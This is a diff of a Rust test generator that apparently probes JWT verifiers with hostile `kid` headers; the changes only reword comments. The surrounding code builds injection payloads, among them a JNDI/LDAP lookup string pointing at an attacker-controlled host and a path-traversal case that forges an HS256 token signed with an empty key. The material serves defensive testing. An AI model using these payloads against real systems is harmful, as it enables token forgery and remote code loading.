@@ -1,5 +1,5 @@
-//! RFC 8725 section 3.10: `kid` is what a stranger says. It finds a key by its name and does nothing
-//! else: it opens no file, fills no query, makes no request.
+//! Injection by `kid` (RFC 8725 section 3.10): it is an attacker's input. It may only select a key by its name: it
+//! must not open a file, change a query, or cause a request.
 
 use aws_lc_rs::hmac;
 use serde_json::{Value, json};
@@ -45,7 +45,7 @@ fn payloads(cases: &mut Cases<'_>, lure: &str) {
     }
     add(cases, "URL of the attacker", format!("{lure}/key"));
     add(cases, "lookup in a directory", format!("${{jndi:ldap://{lure}/key}}"));
-    // What a verifier would compute that reads its key from an empty file.
+    // The HMAC of a verifier that would read its key from an empty file.
     let original = cases.original;
     let mut header: Value = serde_json::from_str(&original.header_text()).expect("a header");
     header["alg"] = json!("HS256");
@@ -56,7 +56,7 @@ fn payloads(cases: &mut Cases<'_>, lure: &str) {
     cases.add("path traversal to an empty key", Rule::Algorithm, token);
 }
 
-/// The right name, but for a character.
+/// The right `kid`, but for one character.
 fn spellings(cases: &mut Cases<'_>) {
     let kid = cases.original.kid();
     for (name, spelling) in [
@@ -116,7 +116,7 @@ fn other_keys(cases: &mut Cases<'_>, attacker: &Attacker) {
     let header = original.header_with("kid", attacker.thumbprint());
     let token = attacker.sealed(header, original.claims_text());
     cases.add("the attacker's key", Rule::UnknownKey, token);
-    // Published, and not the one that signed.
+    // In the JWKS, but not the signer.
     let header = original.header_with("kid", original.other_kid());
     cases.add_header("another key of the issuer's", Rule::Signature, header);
     let claims = original.claims_with("kid", attacker.thumbprint());
